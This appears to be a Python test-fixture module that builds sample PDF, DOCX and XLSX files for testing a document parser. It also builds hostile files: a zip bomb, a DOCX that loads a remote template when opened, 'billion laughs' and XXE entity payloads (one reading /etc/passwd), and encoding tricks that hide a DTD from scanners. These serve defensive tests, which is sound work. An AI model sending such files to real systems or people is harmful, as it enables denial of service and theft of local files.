"""Real document files made in the tests: PDF (a minimal writer of our own), DOCX, XLSX, Markdown, and bad files."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path


def _pdf_escape(text: str) -> str:
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def make_pdf(path: Path, pages: list[list[str]]) -> Path:
    """A valid PDF with one page per item, each line drawn as text (Helvetica); an empty list is a page without text."""
    objects: list[bytes] = []

    def add(body: bytes) -> int:
        objects.append(body)
        return len(objects)

    catalog = add(b"")  # placeholder, filled below
    pages_obj = add(b"")
    font = add(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>")
    kids = []
    for lines in pages:
        ops = ["BT", "/F1 11 Tf", "14 TL", "72 760 Td"]
        for line in lines:
            ops.append(f"({_pdf_escape(line)}) Tj T*")
        ops.append("ET")
        stream = "\n".join(ops).encode("cp1252", "replace")
        content = add(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
        page = add(
            b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 %d 0 R >> >> /Contents %d 0 R >>"
            % (pages_obj, font, content)
        )
        kids.append(page)
    objects[catalog - 1] = b"<< /Type /Catalog /Pages %d 0 R >>" % pages_obj
    objects[pages_obj - 1] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (
        b" ".join(b"%d 0 R" % k for k in kids),
        len(kids),
    )
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % n + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, catalog, xref))
    path.write_bytes(out.getvalue())
    return path


def make_encrypted_pdf(path: Path, source: Path, password: str = "secret") -> Path:
    """``source`` encrypted with a user password (RC4, which pypdf writes without a crypto library)."""
    from pypdf import PdfReader, PdfWriter

    w = PdfWriter(clone_from=PdfReader(source))
    w.encrypt(user_password=password, owner_password=password, algorithm="RC4-128")
    with path.open("wb") as fh:
        w.write(fh)
    return path


def make_docx(path: Path, sections: list[tuple[str, list[str]]], table: list[list[str]] | None = None) -> Path:
    """A Word document: per section a Heading 1 and its paragraphs; then an optional table."""
    import docx

    d = docx.Document()
    d.add_heading("Document", level=0)
    for heading, paras in sections:
        d.add_heading(heading, level=1)
        for p in paras:
            d.add_paragraph(p)
    if table:
        t = d.add_table(rows=len(table), cols=len(table[0]))
        for r, row in enumerate(table):
            for c, value in enumerate(row):
                t.cell(r, c).text = value
    d.save(str(path))
    return path


def make_docx_outline(path: Path, items: list[tuple[str, str | list[list[str]]]]) -> Path:
    """A Word document from (kind, content) items in order: ("title", text), ("h1".."h6", text), ("p", text) or
    ("table", rows: the first is the header)."""
    import docx

    d = docx.Document()
    for kind, content in items:
        if kind == "table":
            assert isinstance(content, list)
            t = d.add_table(rows=len(content), cols=len(content[0]))
            for r, row in enumerate(content):
                for c, value in enumerate(row):
                    t.cell(r, c).text = value
            continue
        assert isinstance(content, str)
        if kind == "title":
            d.add_heading(content, level=0)
        elif kind.startswith("h"):
            d.add_heading(content, level=int(kind[1:]))
        else:
            d.add_paragraph(content)
    d.save(str(path))
    return path


def make_xlsx(path: Path, rows: list[list[object]], title: str = "Assets") -> Path:
    """A workbook with one sheet of rows (the first is the header)."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = title
    for r in rows:
        ws.append(r)
    wb.save(str(path))
    return path


def make_zip_bomb(path: Path, member: str = "word/document.xml", megabytes: int = 300) -> Path:
    """A 'DOCX' whose document part unpacks to ``megabytes`` of zeros (a few hundred KB on disk)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        with zf.open(member, "w", force_zip64=True) as fh:
            chunk = b"\0" * 2**20
            for _ in range(megabytes):
                fh.write(chunk)
    return path


def docx_with(path: Path, member: str, content: str, base: Path) -> Path:
    """A copy of the package ``base`` with ``member`` replaced (or added)."""
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != member:
                dst.writestr(info, src.read(info))
        dst.writestr(member, content)
    return path


# ----------------------------------------------------------------------------- small hand-written packages

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_DOCX_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    '<Override PartName="/word/settings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'
    "</Types>"
)


def _xml_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


_EXTERNAL = ' TargetMode="External"'


def relationships_xml(rels: list[tuple[str, str, bool]]) -> str:
    """A ``.rels`` part: one relationship per (type URI, target, external?), IDs rId1, rId2, ..."""
    items = "".join(
        f'<Relationship Id="rId{n}" Type="{t}" Target="{target}"{_EXTERNAL if ext else ""}/>'
        for n, (t, target, ext) in enumerate(rels, start=1)
    )
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{_PKG_RELS}">{items}</Relationships>'


def document_xml(paragraphs: list[str], *, prolog: str = "") -> str:
    """``word/document.xml`` with one plain paragraph per item; ``prolog`` goes between the XML declaration and the root."""
    body = "".join(f"<w:p><w:r><w:t>{p}</w:t></w:r></w:p>" for p in paragraphs)
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{prolog}'
        f'<w:document xmlns:w="{_W}" xmlns:r="{_R}"><w:body>{body}</w:body></w:document>'
    )


def make_small_docx(path: Path, paragraphs: list[str], parts: dict[str, str | bytes] | None = None) -> Path:
    """A hand-written Word package of a few hundred bytes (python-docx's own template is 36 KB): the paragraphs
    (escaped) in ``word/document.xml``; ``parts`` adds or replaces members (e.g. a document.xml with a DOCTYPE)."""
    members: dict[str, str | bytes] = {
        "[Content_Types].xml": _DOCX_TYPES,
        "_rels/.rels": relationships_xml([(f"{_R}/officeDocument", "word/document.xml", False)]),
        "word/document.xml": document_xml([_xml_escape(p) for p in paragraphs]),
    }
    members.update(parts or {})
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in members.items():
            zf.writestr(name, content)
    return path


def make_external_template_docx(path: Path, paragraphs: list[str], target: str = "http://templates.example/policy.dotm") -> Path:
    """A Word document whose settings attach a template from ``target`` (TargetMode="External"): the
    remote-template trick that makes Word fetch a file when the document opens."""
    settings = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:settings xmlns:w="{_W}" xmlns:r="{_R}"><w:attachedTemplate r:id="rId1"/></w:settings>'
    return make_small_docx(
        path,
        paragraphs,
        {
            "word/_rels/document.xml.rels": relationships_xml([(f"{_R}/settings", "settings.xml", False)]),
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": relationships_xml([(f"{_R}/attachedTemplate", target, True)]),
        },
    )


ENTITY_PROLOG = '<!DOCTYPE w:document [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
"""The start of a "billion laughs": an internal DTD that declares entities (an XXE would declare SYSTEM ones)."""


XXE_PROLOG = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
"""An external entity: a parser that resolves it puts a local file's content into the document."""


def make_entity_docx(
    path: Path, *, prolog: str = ENTITY_PROLOG, use: str = "&lol2;", padding: int = 0, encoding: str = "utf-8"
) -> Path:
    """A Word document whose document.xml declares XML entities (``prolog``) and uses one (``use``); ``padding``
    characters of comment before the DOCTYPE, ``encoding`` "utf-16" to hide the declaration from a byte search."""
    comment = f"<!--{'x' * padding}-->" if padding else ""
    xml = document_xml([use], prolog=comment + prolog)
    if encoding != "utf-8":
        xml = xml.replace('encoding="UTF-8"', f'encoding="{encoding.upper()}"')
    return make_small_docx(path, [], {"word/document.xml": xml.encode(encoding)})


def make_zip(path: Path, members: dict[str, str | bytes]) -> Path:
    """A zip file with these members (for packages that are not what their extension says)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in members.items():
            zf.writestr(name, content)
    return path


def make_broken_xlsx(path: Path) -> Path:
    """An 'XLSX' package whose workbook part is cut off mid-tag."""
    return make_zip(
        path,
        {
            "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
            "_rels/.rels": relationships_xml([(f"{_R}/officeDocument", "xl/workbook.xml", False)]),
            "xl/workbook.xml": '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet',
        },
    )


PNG_BYTES = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82"
)
"""A 1x1 PNG image."""
MZ_BYTES = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"This program cannot be run in DOS mode.\r\n"
)
"""The start of a Windows executable."""
OLE_BYTES = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
"""The header block of an old Office (OLE compound) file, as a .doc or .xls starts."""
